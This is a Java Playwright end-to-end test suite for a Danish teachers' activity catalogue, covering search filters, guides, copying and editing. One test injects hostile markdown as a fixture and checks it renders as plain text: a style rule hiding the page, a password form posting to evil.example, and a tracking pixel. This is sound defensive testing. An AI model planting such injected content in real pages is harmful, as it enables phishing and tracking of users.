package dk.opdag.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import org.junit.jupiter.api.Test;

/** A teacher finds an activity for their subject and grade, reads its guide, and adapts a copy as their own. */
class CatalogueJourneyIT extends BrowserTestBase {

    private void pickComboBox(String label, String option) {
        page.getByRole(AriaRole.COMBOBOX, new Page.GetByRoleOptions().setName(label).setExact(true)).fill(option);
        page.getByRole(AriaRole.OPTION, new Page.GetByRoleOptions().setName(option).setExact(true)).click();
    }

    private void pickSelect(String label, String option) {
        page.locator("vaadin-select").filter(new Locator.FilterOptions().setHasText(label)).first().click();
        page.locator("vaadin-select-item").filter(new Locator.FilterOptions().setHasText(option)).first().click();
    }

    /** A form field's own error message (not the copy Vaadin puts in its aria-live region). */
    private Locator fieldError(String text) {
        return page.locator("[slot='error-message']", new Page.LocatorOptions().setHasText(text));
    }

    @Test
    void teacherFiltersToMathGrade5ComputationalThinkingAndReadsTheGuide() {
        signIn("bo", PASSWORD);
        expectHeading("Mine klasser");
        page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Aktiviteter")).click();
        expectHeading("Aktiviteter");
        String all = page.locator(".opdag-result-count").textContent();

        pickComboBox("Fag", "Matematik");
        pickSelect("Klassetrin", "5. klasse");
        pickSelect("Kompetenceområde", "Computationel tankegang");

        // The filters are in the address once the server has applied all three.
        page.waitForURL(url -> url.contains("fag=matematik") && url.contains("klassetrin=5")
                && url.contains("omraade=ct"));
        assertThat(page.locator(".opdag-result-count")).not().hasText(all);
        Locator cards = page.locator(".opdag-activity-card");
        assertThat(cards.first()).isVisible();
        int shown = cards.count();
        assertThat(page.locator(".opdag-result-count")).hasText(shown == 1 ? "1 aktivitet" : shown + " aktiviteter");
        for (int i = 0; i < shown; i++) {
            assertThat(cards.nth(i)).containsText("Matematik");
            assertThat(cards.nth(i)).containsText("Computationel tankegang");
        }

        String title = cards.first().locator("h2").textContent().strip();
        cards.first().locator("h2 a").click();
        expectHeading(title);
        assertThat(page.getByText("Lektionerne trin for trin")).isVisible();
        assertThat(page.getByText("Forberedelse", new Page.GetByTextOptions().setExact(true))).isVisible();
        assertThat(page.getByText("Spørgsmål til refleksion")).isVisible();
        assertThat(page.locator(".opdag-step").first()).isVisible();
    }

    /** Issue 14: the guide a school can trust – review date, background, word list, three levels, a closed facit. */
    @Test
    void theGuideShowsBackgroundWordListLevelsAndAClosedAnswerKey() {
        signIn("bo", PASSWORD);
        open("aktivitet/hvad-kan-en-chatbot");
        expectHeading("Hvad kan en chatbot – og hvad kan den ikke?");
        assertThat(page.locator("#activity-reviewed")).hasText("Fagligt gennemset d. 3. december 2026");
        assertThat(page.getByRole(AriaRole.HEADING, new Page.GetByRoleOptions().setName("Faglig baggrund")))
                .isVisible();
        assertThat(page.locator("#activity-background")).containsText("søger på nettet");
        Locator words = page.locator("#activity-vocabulary");
        assertThat(words.locator("dt").first()).hasText("chatbot");
        assertThat(words.locator("dd").first()).hasText("Et program, man kan skrive med. Det svarer med tekst.");

        Locator table = page.locator("#activity-evaluation");
        assertThat(table.locator("thead th")).hasText(new String[] {"Mål", "På vej", "Nået", "Videre"});
        assertThat(table.locator("tbody tr")).hasCount(2);
        assertThat(table.locator("tbody tr").first().locator("td").first())
                .containsText("chatbotten kan tage fejl");

        // The answer key stays closed until the teacher opens it, so a guide on the board does not give it away.
        Locator answer = page.getByText("Nej. Den valgte ord ud fra, hvad der kom efter hinanden i teksten.",
                new Page.GetByTextOptions().setExact(false));
        assertThat(answer).not().isVisible();
        assertAccessible("aktivitet med baggrund, ordliste, evaluering og lukket facit");
        page.getByText("Facit", new Page.GetByTextOptions().setExact(true)).click();
        assertThat(answer).isVisible();
        assertAccessible("aktivitet med åbent facit");
    }

    @Test
    void aBookmarkedSearchOpensWithItsFilters() {
        signIn("bo", PASSWORD);
        open("katalog?fag=matematik&klassetrin=5&omraade=ct");
        assertThat(page.getByRole(AriaRole.COMBOBOX, new Page.GetByRoleOptions().setName("Fag").setExact(true)))
                .hasValue("Matematik");
        Locator cards = page.locator(".opdag-activity-card");
        assertThat(cards.first()).containsText("Computationel tankegang");
        assertThat(cards.first()).containsText("Matematik");
    }

    @Test
    void teacherAdaptsACopyWhichStaysPrivateUntilShared() {
        signIn("anne", PASSWORD);
        open("katalog");
        Locator firstCard = page.locator(".opdag-activity-card h2 a").first();
        assertThat(firstCard).isVisible();
        String original = firstCard.textContent().strip();
        String link = firstCard.getAttribute("href");
        firstCard.click();
        page.waitForURL(url -> url.endsWith(link));
        expectHeading(original);
        page.getByText("Kopiér og tilpas som din egen").click();
        expectHeading("Skriv din egen aktivitet");
        Locator titleField = page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Titel").setExact(true));
        assertThat(titleField).hasValue(original + " (min udgave)");

        Locator steps = page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Lektion 1: trin").setExact(true));
        // The copy carries the original's lessons, not empty editors.
        assertThat(steps).not().hasValue("");
        assertThat(page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Lektion 1: titel")
                .setExact(true))).not().hasValue("");
        String good = steps.inputValue();
        steps.fill("10: Vi starter\nVi glemte minutterne");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        // At the field (Vaadin also reads it out through an aria-live region, so the text is on the page twice).
        assertThat(fieldError("Lektion 1, linje 2: skriv minutter, kolon og tekst")).isVisible();

        steps.fill("10: Vi starter\n20: Vi arbejder");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        assertThat(page.getByText("Aktiviteten er ikke gemt endnu")).isVisible();
        assertThat(page.getByText("45", new Page.GetByTextOptions().setExact(false)).first()).isVisible();

        steps.fill(good);
        titleField.fill("Annes robotdans <b>fed</b>");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        expectHeading("Annes robotdans <b>fed</b>");
        assertThat(page.getByText("Kun for dig")).isVisible();

        context.clearCookies();
        signIn("bo", PASSWORD);
        open("katalog");
        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Søg").setExact(true)).fill("Annes robotdans");
        assertThat(page.getByText("Ingen aktiviteter passer til din søgning.")).isVisible();
    }

    /**
     * Issue 15: the editor is bound with Vaadin's Binder, says at the field what is wrong (in Danish), and keeps a
     * step's experiment through a copy and a save (it used to drop it), so the teacher's own guide still opens it.
     */
    @Test
    void aCopyKeepsTheStepThatOpensTheExperimentAndTheFormNamesWhatIsWrong() {
        signIn("bo", PASSWORD);
        open("aktivitet/skildpadden-tegner");
        expectHeading("Skildpadden tegner figurer");
        assertThat(page.locator(".opdag-step-experiment")).hasCount(1);
        page.getByText("Kopiér og tilpas som din egen").click();
        expectHeading("Skriv din egen aktivitet");
        Locator titleField = page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Titel")
                .setExact(true));
        Locator lesson2 = page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Lektion 2: trin")
                .setExact(true));
        assertThat(lesson2).hasValue(java.util.regex.Pattern.compile(
                "^25: Parrene arbejder med opgavearket.*\\[eksperiment: skildpadde-sekskant]$",
                java.util.regex.Pattern.MULTILINE));
        assertAccessible("aktivitetseditoren med et trin med eksperiment");
        String good = lesson2.inputValue();

        titleField.fill("");
        lesson2.fill(good.replace("[eksperiment: skildpadde-sekskant]", "[eksperiment: skildpade-sekskant]"));
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        assertThat(page.getByText("Aktiviteten er ikke gemt endnu. Ret de felter, der er markeret med rødt."))
                .isVisible();
        assertThat(fieldError("Skriv en titel.")).isVisible();
        assertThat(fieldError("Lektion 2: eksperimentet «skildpade-sekskant» findes ikke i Opdag.")).isVisible();
        assertAccessible("aktivitetseditoren med fejl ved felterne");

        titleField.fill("Bos skildpadde");
        lesson2.fill(good);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        expectHeading("Bos skildpadde");
        Locator open = page.locator(".opdag-step-experiment");
        assertThat(open).hasCount(1);
        assertThat(open).hasAttribute("href", java.util.regex.Pattern.compile("eksperiment/skildpadde-sekskant"));

        // And once more through the editor of the teacher's own activity: the step is still there after a save.
        String address = addressMatching(".*/aktivitet/(?!ny$)[^/?]+$");
        open("aktivitet/rediger/" + address.substring(address.lastIndexOf('/') + 1));
        expectHeading("Redigér din aktivitet");
        assertThat(lesson2).hasValue(good);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        expectHeading("Bos skildpadde");
        assertThat(page.locator(".opdag-step-experiment")).hasCount(1);
    }

    /** Issue 11, item 2: what a colleague reads in a shared activity can neither restyle, phish nor track. */
    @Test
    void hostileMarkdownInASharedActivityIsOnlyText() {
        signIn("anne", PASSWORD);
        open("aktivitet/beskeden-der-rejser"); // a shipped activity (the first card may be another test's copy)
        page.getByText("Kopiér og tilpas som din egen").click();
        expectHeading("Skriv din egen aktivitet");
        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Titel").setExact(true))
                .fill("Annes delte krog");
        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Forberedelse").setExact(true))
                .fill("**Læs op.**\n\n<style>body { display: none }</style>\n\n"
                        + "<form action=\"https://evil.example/\"><input type=\"password\" name=\"p\"></form>\n\n"
                        + "![spor](https://tracker.example/pixel.png)");
        page.getByLabel("Del med kollegerne på min skole").check();
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        expectHeadingAfterSave("Annes delte krog");
        String address = addressMatching(".*/aktivitet/(?!ny$)[^/?]+$");

        context.clearCookies();
        signIn("bo", PASSWORD);
        page.navigate(address);
        expectHeading("Annes delte krog");
        assertThat(page.locator(".opdag-markdown strong", new Page.LocatorOptions().setHasText("Læs op.")))
                .isVisible();
        assertThat(page.locator("style", new Page.LocatorOptions().setHasText("display: none"))).hasCount(0);
        assertThat(page.locator("form, input[type=password]")).hasCount(0);
        assertThat(page.locator("img[src*='tracker.example']")).hasCount(0);
        assertThat(page.locator("body")).isVisible();
    }

    /** As expectHeading, but a failure says what the form showed (once seen only on a loaded CI machine). */
    private void expectHeadingAfterSave(String heading) {
        try {
            expectHeading(heading);
        } catch (AssertionError e) {
            java.nio.file.Path shot = java.nio.file.Path.of("target", "failsafe-reports", "editor-save.png");
            page.screenshot(new Page.ScreenshotOptions().setPath(shot).setFullPage(true));
            throw new AssertionError("save did not open the activity; the form showed "
                    + page.locator(".opdag-error").allTextContents() + " at " + page.url() + " (screenshot "
                    + shot + ")", e);
        }
    }
}
